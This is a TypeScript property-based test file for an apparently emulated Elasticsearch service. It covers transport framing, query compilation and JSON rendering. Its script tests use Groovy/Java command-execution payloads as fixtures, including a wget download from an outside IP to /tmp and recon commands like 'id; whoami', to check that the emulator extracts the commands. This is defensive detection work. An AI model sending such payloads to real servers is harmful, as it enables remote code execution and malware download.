import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { matchesWildcard } from '../../../src/emulators/elasticsearch/document.ts'
import { ElasticError } from '../../../src/emulators/elasticsearch/elastic-error.ts'
import { compileQuery, compileQueryString } from '../../../src/emulators/elasticsearch/query.ts'
import { render } from '../../../src/emulators/elasticsearch/render.ts'
import { scriptsIn } from '../../../src/emulators/elasticsearch/script.ts'
import { decodeFrame, encodeFrame, frameLength, TransportFormatError } from '../../../src/emulators/elasticsearch/transport-codec.ts'

describe('a transport frame', () => {
  const frames = fc.record({
    requestId: fc.bigInt(-(2n ** 63n), 2n ** 63n - 1n),
    status: fc.integer({ min: 0, max: 255 }),
    version: fc.integer(),
    payload: fc.uint8Array({ maxLength: 500 }).map((bytes) => Buffer.from(bytes)),
  })

  it('is read back as it was written', () => {
    fc.assert(
      fc.property(frames, (frame) => {
        const bytes = encodeFrame(frame)
        expect(frameLength(bytes)).toBe(bytes.length - 6)
        expect(decodeFrame(bytes.subarray(6))).toEqual(frame)
      }),
    )
  })

  it('of any other bytes is a format error', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 40 }), (bytes) => {
        for (const read of [frameLength, decodeFrame]) {
          try {
            read(Buffer.from(bytes))
          } catch (error) {
            expect(error).toBeInstanceOf(TransportFormatError)
          }
        }
      }),
    )
  })
})

describe('a query', () => {
  const doc = {
    id: '7',
    type: '_doc',
    source: { name: 'Anna Brandt', age: 41, tags: ['a', 'b'], at: { city: 'Graz' }, when: '2026-01-02T00:00:00Z' },
    version: 1,
    seqNo: 0,
  }
  const finds: [unknown, boolean][] = [
    [{ match_all: {} }, true],
    [{ term: { 'name.keyword': 'Anna Brandt' } }, true],
    [{ term: { name: 'anna' } }, true],
    [{ term: { name: { value: 'Otto' } } }, false],
    [{ terms: { tags: ['x', 'b'] } }, true],
    [{ match: { name: { query: 'anna otto', operator: 'and' } } }, false],
    [{ match_phrase: { name: 'anna brandt' } }, true],
    [{ range: { age: { gte: 40, lt: 42 } } }, true],
    [{ range: { when: { lt: 'now-1000d' } } }, false],
    [{ exists: { field: 'at.city' } }, true],
    [{ wildcard: { 'at.city': 'gr*' } }, true],
    [{ bool: { must_not: [{ ids: { values: ['7'] } }] } }, false],
    [{ bool: { should: [{ term: { age: 1 } }, { term: { age: 41 } }] } }, true],
    [{ query_string: { query: 'name:anna AND NOT at.city:lyon' } }, true],
  ]
  it.each(finds)('%j → %s', (query, expected) => {
    expect(compileQuery(query)(doc)).toBe(expected)
  })

  it('of any shape compiles or is an error of the API', () => {
    fc.assert(
      fc.property(
        fc.dictionary(
          fc.constantFrom('match', 'bool', 'range', 'term', 'terms', 'query_string', 'x', 'must', 'nested'),
          fc.json().map((text) => JSON.parse(text) as unknown),
          { maxKeys: 2 },
        ),
        (query) => {
          try {
            compileQuery(query)(doc)
          } catch (error) {
            expect(error).toBeInstanceOf(ElasticError)
          }
        },
      ),
    )
    fc.assert(fc.property(fc.string({ maxLength: 60 }), (text) => typeof compileQueryString(text)(doc) === 'boolean'))
  })

  it('with forty stars in a pattern is answered at once', () => {
    expect(matchesWildcard(`${'*a'.repeat(40)}b`, 'a'.repeat(5000))).toBe(false)
  })
})

describe('a script', () => {
  const commands: [string, string | undefined][] = [
    ['Runtime.getRuntime().exec("wget http://203.0.113.9/x -O /tmp/x")', 'wget http://203.0.113.9/x -O /tmp/x'],
    ["'uname -a'.execute().text", 'uname -a'],
    ['["/bin/bash","-c","id; whoami"].execute().text', 'id; whoami'],
    ['Runtime.getRuntime().exec(new String[]{"/bin/sh","-c","echo \\"hi\\""})', 'echo "hi"'],
    ['new ProcessBuilder("ls","-la","a b").start()', "ls -la 'a b'"],
    ['doc["price"].value * 2', undefined],
  ]
  it.each(commands)('%s', (text, command) => {
    expect(scriptsIn({ script_fields: { f: { script: text } } })).toMatchObject([{ text, field: 'f', command }])
    expect(scriptsIn({ query: { script_score: { script: { source: text, lang: 'groovy' } } } })).toMatchObject([
      { lang: 'groovy', command },
    ])
  })
})

describe('JSON', () => {
  it('is what JSON.parse reads back, pretty or not', () => {
    fc.assert(
      fc.property(fc.json(), fc.boolean(), fc.boolean(), (text, pretty, lines) => {
        const value: unknown = JSON.parse(text)
        expect(JSON.parse(render(value, pretty, lines))).toEqual(value)
      }),
    )
  })
})
